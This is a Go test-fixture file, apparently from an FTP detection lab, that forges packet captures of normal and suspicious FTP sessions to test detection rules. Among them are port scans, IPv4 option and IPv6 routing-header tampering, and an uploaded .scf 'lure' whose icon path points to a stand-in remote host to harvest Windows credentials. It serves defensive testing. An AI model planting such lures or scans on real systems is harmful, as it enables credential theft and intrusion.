// Sessions, and pieces of sessions, that rules are held against.

package baseline

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"time"

	"ftplab/lab/internal/forge"
)

// transfer is a session with one passive transfer, whose data connection is opened
// so much later than announced.
func transfer(late time.Duration, command string, sender, size int) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)")
		f.Pass(late)
		t.Say("> " + command + "\n< 150 here")
		download(f, aClient, aServer+":25600", sender, size)
		t.Say("< 226 done").Say(bye).Peer.Close()
	}
}

func passiveFrom(f *forge.Capture, port string) {
	t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here")
	download(f, aClient+port, aServer+":25600", answerer, 55)
	t.Say("< 226 done").Say(bye).Peer.Close()
}

// active is a session with an active listing from the given port of the server.
func active(port string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PORT 198,51,100,100,12,100\n< 200 ok\n> LIST\n< 150 here")
		download(f, aServer+port, aClient+":3172", opener, 55)
		t.Say("< 226 done").Say(bye).Peer.Close()
	}
}

// twoConnections is a transfer with two data connections, of which the first
// carries so many bytes.
func twoConnections(bytes int) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		for _, size := range []int{bytes, 100} {
			d := dial(f, aClient, aServer+":25600")
			if size > 0 {
				d.Peer.Segment("P.", strings.Repeat("x", size))
			}
			d.Peer.Close()
		}
		t.Say("< 226 done").Say(bye).Peer.Close()
	}
}

// cutByReset is a download that the server resets before its end and calls
// complete, after what else is said.
func cutByReset(said string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		d := dial(f, aClient, aServer+":25600")
		d.Peer.Segment("P.", "the beginning")
		d.Peer.Segment("R.", "")
		t.Say(said + "< 226 done").Say(bye).Peer.Close()
	}
}

// sized is a download of so many bytes, of which the server announced others.
func sized(f *forge.Capture, announced, sent int) {
	t := f.Control().Say(hello).Say(fmt.Sprintf(
		"> TYPE I\n< 200 ok\n> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 opening a (%d bytes)", announced))
	download(f, aClient, aServer+":25600", answerer, sent)
	t.Say("< 226 done").Say(bye).Peer.Close()
}

// manyListings are active listings to client ports that rise by step.
func manyListings(n, step int) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i := range n {
			port := 3000 + i*step
			t.Say(fmt.Sprintf("> PORT 198,51,100,100,%d,%d\n< 200 ok\n> LIST\n< 150 here", port/256, port%256))
			download(f, aServer+":20", fmt.Sprintf("%s:%d", aClient, port), opener, 55)
			t.Say("< 226 done")
		}
		t.Say(bye).Peer.Close()
	}
}

// knocks are SYNs to so many ends, which nobody answers.
func knocks(f *forge.Capture, n int, to func(int) string) {
	for i := range n {
		t := overhear(f, aClient, to(i))
		t.Segment("S", "")
	}
}

// lateData is a listing whose FIN overtakes its data, or does not.
func lateData(f *forge.Capture, overtakes bool) {
	t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here")
	d := dial(f, aClient, aServer+":25600")
	const text = "a listing\r\n"
	if overtakes {
		d.Peer.Seq += uint32(len(text))
		d.Peer.FIN()
		d.Peer.SegmentAt(-1-len(text), "P.", text)
	} else {
		d.Peer.Segment("P.", text)
		d.Peer.FIN()
	}
	d.FIN()
	t.Say("< 226 done").Say(bye).Peer.Close()
}

// listingWith226 is a listing whose 226 comes before its FIN, or after.
func listingWith226(f *forge.Capture, before bool) {
	t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here")
	d := dial(f, aClient, aServer+":25600")
	d.Peer.Segment("P.", "a listing\r\n")
	if before {
		t.Say("< 226 done")
	}
	d.Peer.Close()
	if !before {
		t.Say("< 226 done")
	}
	t.Say(bye).Peer.Close()
}

// addrPort is an address with a port.
func addrPort(addr string, port int) string { return fmt.Sprintf("%s:%d", addr, port) }

// clientHello begins like a ClientHello and has a whole record.
var clientHello = "\x16\x03\x01\x00\x30\x01\x00\x00\x2c\x03\x03" + strings.Repeat("r", 42)

// helloTo begins TLS with a server of the given name.
func helloTo(t *forge.End, name string) {
	n := len(name)
	extension := "\x00\x00\x00" + string(rune(n+5)) + "\x00" + string(rune(n+3)) + "\x00\x00" + string(rune(n)) + name
	body := "\x03\x03" + strings.Repeat("r", 32) + "\x00\x00\x02\x13\x01\x01\x00\x00" + string(rune(len(extension))) + extension
	t.Segment("P.", "\x16\x03\x01\x00"+string(rune(len(body)+4))+"\x01\x00\x00"+string(rune(len(body)))+body)
	t.Peer.Segment("P.", "\x16\x03\x03\x00\x02\x02\x00")
	t.Peer.Segment("P.", "\x17\x03\x03\x00\x01\xc3")
}

// inTLS lets a session go on in TLS that nobody can read.
func inTLS(t *forge.End) *forge.End {
	t.Segment("P.", clientHello)
	t.Peer.Segment("P.", "\x16\x03\x03\x00\x30\x02\x00\x00\x2c\x03\x03"+strings.Repeat("s", 42))
	for range 3 {
		t.Segment("P.", "\x17\x03\x03\x00\x20"+strings.Repeat("\xc3", 32))
		t.Peer.Segment("P.", "\x17\x03\x03\x00\x20"+strings.Repeat("\x9e", 32))
	}
	return t
}

// refusedConnection is an attempt to connect to a closed port 21.
func refusedConnection(f *forge.Capture) { refuse(f, aClient, aServer+":21") }

// refuse is a SYN that is answered with a RST.
func refuse(f *forge.Capture, from, to string) {
	t := overhear(f, from, to)
	t.Segment("S", "")
	t.Peer.Segment("R.", "")
}

// scan sends SYNs to so many closed ports, and says how long it waits between two.
func scan(f *forge.Capture, pause time.Duration, n int) {
	for i := range n {
		refuse(f, aClient, addrPort(aServer, 15+i))
		f.Pass(pause)
	}
}

// moved is a session with one transfer of the given bytes.
func moved(command string, sender int, pieces ...string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> " + command + "\n< 150 here")
		d := dial(f, aClient, aServer+":25600")
		for _, piece := range pieces {
			end(d, sender).Segment("P.", piece)
		}
		end(d, sender).Close()
		t.Say("< 226 done").Say(bye).Peer.Close()
	}
}

// anonymous is a session of an anonymous user.
func anonymous(dialogue string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		dial(f, "198.51.100.79", aServer+":21").Say("< 220 hi\n> USER anonymous\n< 331 and?\n> PASS a@b\n< 230 in").Say(dialogue).Say(bye).Peer.Close()
	}
}

// randomUploads is a client that stores files of random bytes, each of the size that it has by its
// number.
func randomUploads(n int, size func(i int) int) func(*forge.Capture) {
	return func(f *forge.Capture) {
		random := rand.NewChaCha8([32]byte{})
		t := dial(f, "198.51.100.78", aServer+":21").Say(hello)
		for i := range n {
			content := make([]byte, size(i))
			random.Read(content)
			move(t, 40000+i, fmt.Sprint("STOR part", i), string(content))
		}
		t.Say(bye).Peer.Close()
	}
}

// keepsData is n sessions with a download each, of which the client closes the window. At last it opens the window and
// ends the connection, or does neither.
func keepsData(n int, ends bool) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for range n {
			t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
			d := dial(f, aClient, aServer+":25600")
			d.Peer.Segment("P.", "the beginning")
			d.Window = 0
			d.ACK()
			for range 4 {
				f.Pass(8 * time.Second)
				d.Peer.SegmentAt(-1, ".", "")
				d.ACK()
			}
			if ends {
				d.Window = 502
				d.ACK()
				d.Peer.Close()
				t.Say("< 226 done").Say(bye).Peer.Close()
			}
		}
	}
}

// withoutCommands is a session in which the client sends on n data connections, and what follows each.
func withoutCommands(n int, then string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i := range n {
			t.Say(fmt.Sprintf("> PASV\n< 227 (192,0,2,21,100,%d)", i))
			d := dial(f, aClient, addrPort(aServer, 25600+i))
			d.Segment("P.", "what nobody asked for")
			d.Close()
			if then != "" {
				t.Say(then)
			}
		}
		t.Say(bye).Peer.Close()
	}
}

// anonymousUsers are n sessions of anonymous users, with their passwords, and no other use.
func anonymousUsers(n int, password func(i int) string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for i := range n {
			f.Control().Say("< 220 hi\n> USER anonymous\n< 331 and?\n> PASS " + password(i) + "\n< 230 in").Say(bye).Peer.Close()
		}
	}
}

// withOption is a session in which the packets of the client have an option of IPv4 with one address.
func withOption(kind byte) func(*forge.Capture) {
	return changedPackets(aClient, aServer, func(frame []byte) []byte {
		frame[14], frame[17], frame[24], frame[25] = 0x47, frame[17]+8, 0, 0 // the length of the header, that of the packet, and no checksum
		return slices.Insert(frame, 34, kind, 7, 8, 203, 0, 113, 1, 0)
	})
}

// withRouting is a session of IPv6 in which the packets of the client have a routing header of the given type.
func withRouting(kind byte) func(*forge.Capture) {
	return changedPackets("2001:db8::7", "[2001:db8::21]", func(frame []byte) []byte {
		length := binary.BigEndian.Uint16(frame[18:]) + 24
		binary.BigEndian.PutUint16(frame[18:], length)
		frame[20] = 43
		return slices.Insert(frame, 54, append([]byte{6, 2, kind, 0, 0, 0, 0, 0}, make([]byte, 16)...)...)
	})
}

// changedPackets is a session in which each packet of the client is changed.
func changedPackets(client, server string, change func(frame []byte) []byte) func(*forge.Capture) {
	return func(f *forge.Capture) {
		dial(f, client, server+":21").Say(hello).Say(bye).Peer.Close()
		for i := range f.Frames {
			if frame := f.Frames[i].Data; frame[11] == f.Frames[0].Data[11] {
				f.Frames[i].Data = change(frame)
			}
		}
	}
}

// lures stores the same file with an icon at another host in each folder.
func lures(folders ...string) func(*forge.Capture) {
	var files [][2]string
	for _, folder := range folders {
		files = append(files, [2]string{"STOR /" + folder + "/@docs.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.66\\x\\a.ico\r\n"})
	}
	return moves(files...)
}
